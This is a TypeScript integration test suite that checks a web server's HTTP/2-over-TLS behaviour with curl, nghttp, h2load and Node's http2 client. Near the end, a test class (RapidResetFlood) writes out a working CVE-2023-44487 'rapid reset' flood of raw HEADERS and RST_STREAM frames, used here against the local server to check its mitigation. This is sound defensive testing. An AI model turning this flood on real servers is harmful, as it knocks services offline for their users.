/**
 * HTTP/2 over TLS (ALPN h2) with real clients: curl --http2, nghttp, h2load, and Node's
 * http2.connect where a frame-level fact is checked (RST_STREAM codes, GOAWAY, flow control).
 * The server is a real Wharf with a certificate imported by `wharf cert import` and bound by
 * `wharf sslcert add`, as an administrator does it (fixture h2/).
 */
import { after, before, beforeEach, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { cpSync, readFileSync, writeFileSync } from 'node:fs';
import { randomBytes, createHash } from 'node:crypto';
import { connect as h2connect, constants as h2c, type ClientHttp2Session, type IncomingHttpHeaders, type OutgoingHttpHeaders } from 'node:http2';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { connect as tlsConnect, type TLSSocket } from 'node:tls';
import { needs, tool } from './helpers/skip.js';
import { TestPki } from './helpers/openssl.js';
import { eventually, FIXTURES, freePort, run, startWharf, tempDir, WHARF_BIN, type WharfProcess } from './helpers/wharf.js';
import { workerPids } from '../bench/procs.js';
import { APPS, ensureAppInstalled } from './helpers/node-apps.js';

interface H2Reply {
  status: number;
  headers: IncomingHttpHeaders;
  body: Buffer;
  trailers: IncomingHttpHeaders;
  /** RST_STREAM code when the stream was reset, else 0. */
  rstCode: number;
}

/** One request on an open session; resolves on the stream's close (also when it was reset). */
function h2request(session: ClientHttp2Session, headers: OutgoingHttpHeaders, body?: Buffer | Readable, endStream = body === undefined): Promise<H2Reply> {
  return new Promise((resolve, reject) => {
    const req = session.request(headers, { endStream });
    let status = 0;
    let resHeaders: IncomingHttpHeaders = {};
    let trailers: IncomingHttpHeaders = {};
    const parts: Buffer[] = [];
    req.on('response', (h) => {
      resHeaders = h;
      status = Number(h[':status']);
    });
    req.on('trailers', (t) => (trailers = t));
    req.on('data', (d: Buffer) => parts.push(d));
    req.on('error', () => undefined); // the close says what happened
    req.on('close', () => resolve({ status, headers: resHeaders, body: Buffer.concat(parts), trailers, rstCode: req.rstCode ?? 0 }));
    req.on('frameError', (_t, code) => reject(new Error(`frame error ${code}`)));
    if (body instanceof Readable) body.pipe(req);
    else if (body !== undefined) req.end(body);
  });
}

function openSession(port: number, options: Parameters<typeof h2connect>[1] = {}): Promise<ClientHttp2Session> {
  return new Promise((resolve, reject) => {
    const s = h2connect(`https://127.0.0.1:${port}`, { rejectUnauthorized: false, ...options });
    s.once('connect', () => resolve(s));
    s.once('error', reject);
  });
}

async function wharfCli(w: WharfProcess, ...args: string[]): Promise<void> {
  const r = await run(process.execPath, [WHARF_BIN, ...args, '--config', w.configFile]);
  assert.equal(r.code, 0, r.stdout + r.stderr);
}

const sha256 = (b: Buffer): string => createHash('sha256').update(b).digest('hex');
const delay = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

interface Server {
  w: WharfProcess;
  tls: number;
  noH2: number;
  stall: number;
  big: Buffer;
}

/**
 * A copy of fixture h2 with a certificate in its store and SSL table entries for its three https
 * ports (made with the CLI, before the server starts), then the server.
 */
async function startH2Server(): Promise<Server> {
  const staging = tempDir('wharf-h2-fixture-');
  cpSync(join(FIXTURES, 'h2'), staging, { recursive: true });
  const pki = new TestPki(join(tempDir('wharf-h2-pki-'), 'pki'));
  const leaf = pki.leaf('localhost', { sans: ['127.0.0.1'] });
  const sd = join(staging, 'systemdrive');
  const cli = async (...args: string[]): Promise<void> => {
    const r = await run(process.execPath, [WHARF_BIN, ...args, '--system-drive', sd]);
    assert.equal(r.code, 0, `wharf ${args.join(' ')}: ${r.stdout}${r.stderr}`);
  };
  await cli('cert', 'import', pki.pem(leaf, { issuers: pki.issuers() }));
  const tls = await freePort();
  const noH2 = await freePort();
  const stall = await freePort();
  for (const p of [tls, noH2, stall]) await cli('sslcert', 'add', `ipport=0.0.0.0:${p}`, `certhash=${leaf.thumbprint}`);
  // The hosted app's one dependency, as `npm install ws` would put it beside the app (the copy
  // test/fixtures/apps/plain installs).
  ensureAppInstalled('plain');
  cpSync(join(APPS, 'plain', 'node_modules', 'ws'), join(staging, 'app', 'node_modules', 'ws'), { recursive: true });
  const big = randomBytes(3 * 1024 * 1024);
  writeFileSync(join(staging, 'www', 'big.bin'), big);
  const w = await startWharf({ fixture: staging, vars: { TLSPORT: String(tls), NOH2PORT: String(noH2), STALLPORT: String(stall) } });
  return { w, tls, noH2, stall, big };
}

/** curl --http2 -k: status line version, status, headers (lower-case, repeated ones joined by \n), body. */
async function curl(url: string, ...args: string[]): Promise<{ version: string; status: number; headers: Record<string, string>; body: Buffer }> {
  const out = join(tempDir('wharf-h2-curl-'), 'body');
  const r = await run('curl', ['--http2', '-k', '-sS', '--max-time', '20', '-D', '-', '-o', out, ...args, url]);
  assert.equal(r.code, 0, `curl ${args.join(' ')} ${url}: ${r.stderr}`);
  // The last head (after a 100 Continue, if any).
  const heads = r.stdout.split(/\r\n\r\n/).filter((h) => h.startsWith('HTTP/'));
  const lines = heads[heads.length - 1]!.split('\r\n');
  const m = /^HTTP\/(\S+) (\d+)/.exec(lines[0]!)!;
  const headers: Record<string, string> = {};
  for (const l of lines.slice(1)) {
    const i = l.indexOf(':');
    const k = l.slice(0, i).toLowerCase();
    const v = l.slice(i + 1).trim();
    headers[k] = headers[k] === undefined ? v : `${headers[k]}\n${v}`;
  }
  return { version: m[1]!, status: Number(m[2]), headers, body: readFileSync(out) };
}

describe('HTTP/2 over TLS', () => {
  let s: Server;
  let session: ClientHttp2Session;
  const url = (path: string): string => `https://127.0.0.1:${s.tls}${path}`;

  before(async () => {
    s = await startH2Server();
    // Files copied in the last 2 s are not cached yet (the cache test needs them older).
    await delay(2100);
    session = await openSession(s.tls);
  });
  // The shared session ends when it idles past the server's timeout (a long test before).
  beforeEach(async () => {
    if (session !== undefined && (session.closed || session.destroyed)) session = await openSession(s.tls);
  });
  after(async () => {
    session?.close();
    await s?.w.stop();
  });

  it('curl --http2: GET and HEAD of a static file over h2, with HSTS; the W3C log says HTTP/2', async (t) => {
    if (!needs(t, tool('curl'))) return;
    const r = await curl(url('/index.html'));
    assert.equal(r.version, '2');
    assert.equal(r.status, 200);
    assert.equal(r.body.toString(), readFileSync(join(s.w.root, 'www', 'index.html'), 'utf8'));
    assert.equal(r.headers['content-type'], 'text/html');
    assert.equal(r.headers['strict-transport-security'], 'max-age=31536000; includeSubDomains');
    // curl -I writes the head where the body would go: HEAD is checked on the frames instead.
    const head = await h2request(session, { ':method': 'HEAD', ':path': '/index.html' });
    assert.equal(head.status, 200);
    assert.equal(head.headers['content-length'], String(r.body.length));
    assert.equal(head.body.length, 0);
    const line = await eventually(() => s.w.logLines(1).find((l) => l.includes(' HEAD /index.html ')));
    assert.match(line, / HTTP\/2 /);
    assert.ok(s.w.logLines(1).some((l) => / GET \/index\.html - \d+ HTTP\/2 /.test(l) || (l.includes(' GET /index.html ') && l.includes(' HTTP/2 '))));
  });

  it('nghttp: a GET is served over h2 (nghttp speaks nothing else)', async (t) => {
    if (!needs(t, tool('nghttp', 'nghttp2-client'))) return;
    const r = await run('nghttp', ['-v', '-n', url('/site.css')]);
    assert.equal(r.code, 0, r.stdout + r.stderr);
    assert.match(r.stdout, /:status: 200/);
    assert.match(r.stdout, /recv SETTINGS frame[^\n]*\n[^\n]*\n[\s\S]*?\[SETTINGS_MAX_CONCURRENT_STREAMS\(0x03\):128\]/);
  });

  it('POST bodies are streamed to a hosted app and echoed byte for byte: small, 5 MiB, and of unknown length', async () => {
    const small = Buffer.from('hello over h2');
    const a = await h2request(session, { ':method': 'POST', ':path': '/app/echo', 'content-type': 'text/plain', 'content-length': String(small.length) }, small);
    assert.equal(a.status, 200);
    assert.equal(a.body.toString(), 'hello over h2');
    assert.equal(a.headers['x-request-content-length'], String(small.length));

    const big = randomBytes(5 * 1024 * 1024);
    const b = await h2request(session, { ':method': 'POST', ':path': '/app/echo', 'content-length': String(big.length) }, Readable.from(chunks(big, 64 * 1024)));
    assert.equal(b.status, 200);
    assert.equal(b.body.length, big.length);
    assert.equal(sha256(b.body), sha256(big));

    // No content-length: the DATA frames frame the body; the app sees it chunked.
    const c = await h2request(session, { ':method': 'POST', ':path': '/app/echo' }, Readable.from(chunks(big.subarray(0, 1024 * 1024 + 17), 10_000)), false);
    assert.equal(c.status, 200);
    assert.equal(c.headers['x-request-content-length'], 'none');
    assert.equal(c.headers['x-request-transfer-encoding'], 'chunked');
    assert.equal(sha256(c.body), sha256(big.subarray(0, 1024 * 1024 + 17)));
  });

  it('curl --http2 POST of a file (streamed by curl) is echoed', async (t) => {
    if (!needs(t, tool('curl'))) return;
    const file = join(tempDir('wharf-h2-post-'), 'upload.bin');
    const data = randomBytes(2 * 1024 * 1024 + 3);
    writeFileSync(file, data);
    const r = await curl(url('/app/echo'), '--data-binary', `@${file}`, '-H', 'content-type: application/octet-stream');
    assert.equal(r.version, '2');
    assert.equal(r.status, 200);
    assert.equal(sha256(r.body), sha256(data));
  });

  it('a hosted app sees HTTP/1.1 (documented), an encrypted socket, and the client\'s request', async () => {
    const r = await h2request(session, { ':path': '/app/info?x=1', 'x-test': 'yes', cookie: 'a=1' });
    assert.equal(r.status, 200);
    const info = JSON.parse(r.body.toString()) as { httpVersion: string; encrypted: boolean; method: string; url: string; headers: Record<string, string> };
    assert.equal(info.httpVersion, '1.1');
    assert.equal(info.encrypted, true);
    assert.equal(info.method, 'GET');
    assert.equal(info.url, '/app/info?x=1');
    assert.equal(info.headers['x-test'], 'yes');
    assert.equal(info.headers['host'], `127.0.0.1:${s.tls}`);
  });

  it('Range (206) and conditional GET (304) on a static file', async () => {
    const full = await h2request(session, { ':path': '/big.bin' });
    assert.equal(full.status, 200);
    assert.equal(sha256(full.body), sha256(s.big));
    const part = await h2request(session, { ':path': '/big.bin', range: 'bytes=1000-1999' });
    assert.equal(part.status, 206);
    assert.equal(part.headers['content-range'], `bytes 1000-1999/${s.big.length}`);
    assert.deepEqual(part.body, s.big.subarray(1000, 2000));
    const etag = full.headers['etag'] as string;
    assert.ok(etag);
    const cond = await h2request(session, { ':path': '/big.bin', 'if-none-match': etag });
    assert.equal(cond.status, 304);
    assert.equal(cond.body.length, 0);
  });

  it('response headers: Connection, Keep-Alive and Transfer-Encoding from an app are dropped; three Set-Cookie fields stay three', async () => {
    const r = await h2request(session, { ':path': '/app/hop' });
    assert.equal(r.status, 200, `rst ${r.rstCode}`);
    assert.equal(r.body.toString(), 'hop by hop');
    assert.equal(r.headers['connection'], undefined);
    assert.equal(r.headers['keep-alive'], undefined);
    assert.equal(r.headers['transfer-encoding'], undefined);
    assert.deepEqual(r.headers['set-cookie'], ['a=1; Path=/', 'b=2; Path=/; HttpOnly', 'c=3']);
    assert.equal(r.headers['strict-transport-security'], 'max-age=31536000; includeSubDomains');
  });

  it('trailers reach a client that sent TE: trailers', async () => {
    const r = await h2request(session, { ':path': '/app/trailers', te: 'trailers' });
    assert.equal(r.status, 200);
    assert.equal(r.body.toString(), 'part one, part two');
    assert.equal(r.trailers['x-checksum'], 'abc123');
  });

  it('a frequently hit static file is answered from the response cache over h2 (it keeps answering with its pool stopped)', async () => {
    for (let i = 0; i < 3; i++) assert.equal((await h2request(session, { ':path': '/site.css' })).status, 200);
    await wharfCli(s.w, 'stop', 'apppool', 'StaticPool');
    try {
      const hit = await h2request(session, { ':path': '/site.css' });
      assert.equal(hit.status, 200);
      assert.equal(hit.body.toString(), 'body { color: teal; }\n');
      assert.equal(hit.headers['content-type'], 'text/css');
      assert.equal(hit.headers['strict-transport-security'], 'max-age=31536000; includeSubDomains');
      // Not cached (never asked for): with the pool stopped, 503.
      assert.equal((await h2request(session, { ':path': '/index.html?never' })).status, 503);
    } finally {
      await wharfCli(s.w, 'start', 'apppool', 'StaticPool');
    }
    const lines = await eventually(() => {
      const l = s.w.logLines(1).filter((x) => x.includes(' GET /site.css '));
      return l.length >= 4 && l;
    });
    for (const l of lines) assert.match(l, / HTTP\/2 /);
  });

  it('a ws WebSocket app on the same https port over HTTP/1.1 (ALPN http/1.1) while an h2 session is open', async () => {
    const WebSocket = createRequire(join(APPS, 'plain', 'package.json'))('ws') as typeof import('ws').default;
    // ws hands its options to https.request (tls.connect): offer only http/1.1 by ALPN.
    const ws = new WebSocket(`wss://127.0.0.1:${s.tls}/app/ws`, { rejectUnauthorized: false, ALPNProtocols: ['http/1.1'] } as unknown as ConstructorParameters<typeof WebSocket>[2]);
    await new Promise<void>((resolve, reject) => {
      ws.once('open', () => resolve());
      ws.once('error', reject);
    });
    const received: string[] = [];
    const all = new Promise<void>((resolve) => {
      ws.on('message', (d) => {
        received.push(d.toString());
        if (received.length === 200) resolve();
      });
    });
    for (let i = 0; i < 200; i++) {
      ws.send(`message ${i}`);
      // h2 streams on the same port at the same time.
      if (i % 50 === 0) assert.equal((await h2request(session, { ':path': '/app/info' })).status, 200);
    }
    await all;
    assert.deepEqual(received, Array.from({ length: 200 }, (_, i) => `message ${i}`));
    const code = await new Promise<number>((resolve) => {
      ws.once('close', (c) => resolve(c));
      ws.close(1000);
    });
    assert.equal(code, 1000);
  });

  it('sslFlags 4: the binding does not negotiate h2 (nghttp fails, curl --http2 falls back to HTTP/1.1)', async (t) => {
    if (!needs(t, tool('curl'), tool('nghttp', 'nghttp2-client'))) return;
    const noH2 = `https://127.0.0.1:${s.noH2}/index.html`;
    const ng = await run('nghttp', ['-nv', noH2]);
    // nghttp speaks only h2: it gives up (its exit code stays 0, the message says why).
    assert.match(ng.stdout + ng.stderr, /processed=0/);
    // What the server chose from the client's ALPN list, as openssl reports it.
    const alpn = async (port: number): Promise<string> => {
      const r = await run('sh', ['-c', `openssl s_client -connect 127.0.0.1:${port} -alpn h2,http/1.1 </dev/null 2>&1`]);
      return /ALPN protocol: (\S+)/.exec(r.stdout)?.[1] ?? r.stdout;
    };
    assert.equal(await alpn(s.noH2), 'http/1.1');
    assert.equal(await alpn(s.tls), 'h2');
    assert.doesNotMatch(ng.stdout, /:status/);
    const r = await curl(noH2);
    assert.equal(r.version, '1.1');
    assert.equal(r.status, 200);
    // The same server's other binding does speak h2.
    assert.equal((await curl(url('/index.html'))).version, '2');
  });

  it('a stream whose client never opens its flow-control window is reset after the site\'s connectionTimeout (2 s); the session serves on', async () => {
    // initialWindowSize 0: the server may send headers but no DATA until the client says so.
    const stalled = await openSession(s.stall, { settings: { initialWindowSize: 0 } });
    try {
      const started = Date.now();
      const req = stalled.request({ ':path': '/big.bin' });
      let status = 0;
      req.on('response', (h) => (status = Number(h[':status'])));
      req.on('error', () => undefined);
      await new Promise<void>((resolve) => req.on('close', () => resolve()));
      const took = Date.now() - started;
      assert.equal(status, 200, 'the head was sent');
      assert.equal(req.rstCode, h2c.NGHTTP2_CANCEL);
      assert.ok(took >= 1800 && took < 10_000, `reset after ${took} ms`);
      // Another stream on the same session, with a window, is served.
      const ok = h2request(stalled, { ':path': '/site.css' });
      stalled.settings({ initialWindowSize: 65535 });
      assert.equal((await ok).status, 200);
    } finally {
      stalled.destroy();
    }
  });

  it('an answer that takes longer than connectionTimeout (2 s) still arrives: the stream timer waits for the client, never for the application', async () => {
    const session = await openSession(s.stall);
    try {
      const r = await h2request(session, { ':path': '/app/slow?ms=3500' });
      assert.equal(r.status, 200);
      assert.equal(r.rstCode, h2c.NGHTTP2_NO_ERROR);
    } finally {
      session.destroy();
    }
  });

  it('maxBandwidth paces a throttled site\'s streams (256 KiB/s), while another site on the same session is not held back', async () => {
    const session = await openSession(s.tls);
    try {
      const started = Date.now();
      const slow = h2request(session, { ':path': '/big.bin', ':authority': 'throttled.test', range: 'bytes=0-524287' });
      const fast = await h2request(session, { ':path': '/big.bin', range: 'bytes=0-524287' });
      const fastTook = Date.now() - started;
      const r = await slow;
      const took = Date.now() - started;
      assert.equal(r.status, 206);
      assert.ok(r.body.equals(s.big.subarray(0, 524288)), 'the paced bytes are the file\'s');
      assert.equal(fast.status, 206);
      // 512 KiB at 256 KiB/s is about 2 s (the first 100 ms burst is free); a generous lower bound.
      assert.ok(took >= 1500, `512 KiB at 256 KiB/s took only ${took} ms`);
      assert.ok(fastTook < took, `the unthrottled stream (${fastTook} ms) waited for the throttled one (${took} ms)`);
    } finally {
      session.destroy();
    }
  });

  it('more than 128 concurrent streams: the excess is refused (REFUSED_STREAM), the session keeps serving', async () => {
    // The client opens 160 streams in its first flight, before it has the server's SETTINGS.
    const greedy = h2connect(`https://127.0.0.1:${s.tls}`, { rejectUnauthorized: false, peerMaxConcurrentStreams: 1000 });
    greedy.on('error', () => undefined);
    try {
      const replies = await Promise.all(Array.from({ length: 160 }, () => h2request(greedy, { ':path': '/app/slow?ms=500' })));
      const ok = replies.filter((r) => r.status === 200).length;
      const refused = replies.filter((r) => r.rstCode === h2c.NGHTTP2_REFUSED_STREAM).length;
      assert.equal(ok, 128, JSON.stringify(replies.map((r) => [r.status, r.rstCode])));
      assert.equal(refused, 32);
      assert.equal(greedy.destroyed, false);
      assert.equal((await h2request(greedy, { ':path': '/app/info' })).status, 200);
    } finally {
      greedy.destroy();
    }
  });

  it('an oversized header list is refused; other streams of the same session and other clients are served', async () => {
    const big = await openSession(s.tls, { maxSendHeaderBlockLength: 200_000 });
    try {
      const slow = h2request(big, { ':path': '/app/slow?ms=300' });
      const over = await h2request(big, { ':path': '/app/info', 'x-big': 'x'.repeat(40_000) });
      assert.equal(over.status, 431, `refused: status ${over.status} rst ${over.rstCode}`);
      assert.equal((await slow).status, 200);
      assert.equal((await h2request(big, { ':path': '/app/info' })).status, 200);
      assert.equal((await h2request(session, { ':path': '/app/info' })).status, 200);
    } finally {
      big.destroy();
    }
  });

  it('rapid reset: a flood of HEADERS + RST_STREAM ends with GOAWAY ENHANCE_YOUR_CALM per session; another client meanwhile completes all its requests', async (t) => {
    if (!needs(t, tool('h2load', 'nghttp2-client'))) return;
    const h2load = async (): Promise<H2loadResult> => parseH2load(await run('h2load', ['-n', '3000', '-c', '4', '-m', '10', url('/site.css')], 120_000));
    await h2load(); // warm: the file is cached, TLS sessions and workers are up
    const quiet = await h2load();
    assert.equal(quiet.succeeded, 3000, quiet.raw);

    const linesBefore = s.w.httpErrLines().length;
    const flood = new RapidResetFlood(s.tls, '/app/info');
    const running = flood.run();
    const busy = await h2load();
    flood.stop();
    const result = await running;
    assert.equal(busy.succeeded, 3000, busy.raw);
    assert.equal(busy.failed + busy.errored + busy.timeout, 0, busy.raw);
    assert.ok(result.sessions >= 1 && result.resets >= 1000, JSON.stringify(result));
    // Every flood session that lived long enough was told to calm down (the last one may be stopped first).
    assert.ok(result.goaways.length >= result.sessions - 1, JSON.stringify(result));
    for (const code of result.goaways) assert.equal(code, h2c.NGHTTP2_ENHANCE_YOUR_CALM);
    // Each session got at most the budget (200 in a burst, nghttp2's own limit is 1000) before its GOAWAY.
    for (const n of result.acceptedBeforeGoaway) assert.ok(n <= 400, JSON.stringify(result));
    // Streams reset in the read that opened them never reach a pool and get no httperr line each:
    // one Connection_Dropped line per session told to calm down.
    await delay(500);
    const dropped = s.w.httpErrLines().slice(linesBefore);
    assert.ok(dropped.length <= result.sessions + 5, `${dropped.length} httperr lines for ${result.sessions} sessions`);
    const ratio = quiet.seconds / busy.seconds;
    assert.ok(ratio > 0, quiet.raw + busy.raw);
    process.stderr.write(`rapid reset: other client ${quiet.seconds}s quiet, ${busy.seconds}s during the flood (throughput ratio ${ratio.toFixed(2)}); flood ${JSON.stringify({ sessions: result.sessions, resets: result.resets })}\n`);
    // The server is still fine.
    assert.equal((await h2request(session, { ':path': '/app/info' })).status, 200);
  });

  it('kill -9 of the app\'s worker under h2 load (h2load -c 8 -m 10): every GET is answered 200', async (t) => {
    if (!needs(t, tool('h2load', 'nghttp2-client'))) return;
    assert.equal((await h2request(session, { ':path': '/app/slow?ms=1' })).status, 200);
    const [pid] = workerPids(s.w.child.pid!, 'AppPool');
    assert.ok(pid !== undefined, 'the app pool has a worker');
    const load = run('h2load', ['-n', '2000', '-c', '8', '-m', '10', url('/app/slow?ms=40')], 120_000);
    await delay(400);
    process.kill(pid!, 'SIGKILL');
    const r = parseH2load(await load);
    process.stderr.write(`kill -9 under h2 load: ${r.succeeded} succeeded, ${r.status2xx} 2xx, ${r.failed} failed, ${r.errored} errored\n`);
    assert.equal(r.status2xx, 2000, r.raw);
    assert.equal(r.succeeded, 2000, r.raw);
    assert.equal(r.failed + r.errored + r.timeout, 0, r.raw);
    const now = workerPids(s.w.child.pid!, 'AppPool');
    assert.ok(now.length >= 1 && !now.includes(pid!), `a new worker serves (${now.join(',')} after ${pid})`);
  });

  it('graceful shutdown (SIGTERM) with h2 streams open: GOAWAY, and the open streams finish', async () => {
    const open = await openSession(s.tls);
    const goaway = new Promise<number>((resolve) => open.once('goaway', (code) => resolve(code)));
    const streams = Array.from({ length: 3 }, () => h2request(open, { ':path': '/app/slow?ms=1500' }));
    await delay(400);
    const stopped = s.w.stop();
    assert.equal(await goaway, h2c.NGHTTP2_NO_ERROR);
    const replies = await Promise.all(streams);
    assert.deepEqual(replies.map((r) => [r.status, r.rstCode]), [[200, 0], [200, 0], [200, 0]]);
    for (const r of replies) assert.equal((JSON.parse(r.body.toString()) as { slow: boolean }).slow, true);
    assert.equal(await stopped, 0);
    open.destroy();
  });
});

interface H2loadResult {
  seconds: number;
  succeeded: number;
  failed: number;
  errored: number;
  timeout: number;
  status2xx: number;
  raw: string;
}

function parseH2load(r: { code: number | null; stdout: string; stderr: string }): H2loadResult {
  const raw = r.stdout + r.stderr;
  const num = (re: RegExp): number => Number(re.exec(raw)?.[1] ?? NaN);
  return {
    seconds: ((m) => (m === null ? NaN : Number(m[1]) / (m[2] === 'ms' ? 1000 : 1)))(/finished in ([\d.]+)(ms|s),/.exec(raw)),
    succeeded: num(/(\d+) succeeded/),
    failed: num(/(\d+) failed/),
    errored: num(/(\d+) errored/),
    timeout: num(/(\d+) timeout/),
    status2xx: num(/status codes: (\d+) 2xx/),
    raw,
  };
}

/**
 * CVE-2023-44487 as attackers ran it: raw frames over TLS (ALPN h2), each stream a HEADERS frame
 * followed at once by RST_STREAM(CANCEL), written in batches, on a new connection whenever the
 * server ends one. A frame-level client: Node's own would cancel a HEADERS frame not yet sent.
 */
class RapidResetFlood {
  readonly #port: number;
  readonly #path: string;
  #stopped = false;
  #current: TLSSocket | undefined;
  constructor(port: number, path: string) {
    this.#port = port;
    this.#path = path;
  }

  stop(): void {
    this.#stopped = true;
    this.#current?.destroy();
  }

  async run(): Promise<{ sessions: number; resets: number; goaways: number[]; acceptedBeforeGoaway: number[] }> {
    const out = { sessions: 0, resets: 0, goaways: [] as number[], acceptedBeforeGoaway: [] as number[] };
    while (!this.#stopped && out.sessions < 200) {
      out.sessions++;
      await this.#session(out);
    }
    return out;
  }

  #session(out: { resets: number; goaways: number[]; acceptedBeforeGoaway: number[] }): Promise<void> {
    return new Promise((resolve) => {
      const sock = tlsConnect({ host: '127.0.0.1', port: this.#port, ALPNProtocols: ['h2'], rejectUnauthorized: false });
      this.#current = sock;
      let id = 1;
      let buf = Buffer.alloc(0);
      let done = false;
      const finish = (): void => {
        if (done) return;
        done = true;
        sock.destroy();
        resolve();
      };
      sock.on('error', finish);
      sock.on('close', finish);
      const authority = `127.0.0.1:${this.#port}`;
      // :method GET, :scheme https (static table 2, 7), :path and :authority as literals (names 4, 1).
      const block = Buffer.concat([Buffer.from([0x82, 0x87, 0x04, this.#path.length]), Buffer.from(this.#path), Buffer.from([0x01, authority.length]), Buffer.from(authority)]);
      let sent = 0;
      const pump = (): void => {
        if (done || this.#stopped) return finish();
        // Well past the server's budget, then read: writing on into a socket the server closed
        // ends in EPIPE before the GOAWAY is read.
        if (sent >= 600) return;
        sent += 50;
        const frames: Buffer[] = [];
        for (let i = 0; i < 50; i++, id += 2) {
          frames.push(frame(0x1, 0x4 | 0x1, id, block)); // HEADERS, END_HEADERS | END_STREAM
          frames.push(frame(0x3, 0, id, u32(h2c.NGHTTP2_CANCEL))); // RST_STREAM
          out.resets++;
        }
        if (sock.write(Buffer.concat(frames))) setImmediate(pump);
        else sock.once('drain', pump);
      };
      sock.once('secureConnect', () => {
        sock.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(0x4, 0, 0, Buffer.alloc(0))]));
        pump();
      });
      sock.on('data', (d: Buffer) => {
        buf = Buffer.concat([buf, d]);
        while (buf.length >= 9) {
          const len = buf.readUIntBE(0, 3);
          if (buf.length < 9 + len) break;
          const type = buf[3]!;
          const payload = buf.subarray(9, 9 + len);
          if (type === 0x4 && (buf[4]! & 0x1) === 0) sock.write(frame(0x4, 0x1, 0, Buffer.alloc(0))); // SETTINGS ACK
          if (type === 0x7) {
            out.goaways.push(payload.readUInt32BE(4));
            out.acceptedBeforeGoaway.push(((payload.readUInt32BE(0) & 0x7fffffff) + 1) / 2);
            finish();
          }
          buf = buf.subarray(9 + len);
        }
      });
    });
  }
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(stream, 5);
  return Buffer.concat([h, payload]);
}

function u32(n: number): Buffer {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(n);
  return b;
}

function* chunks(b: Buffer, size: number): Generator<Buffer> {
  for (let i = 0; i < b.length; i += size) yield b.subarray(i, i + size);
}

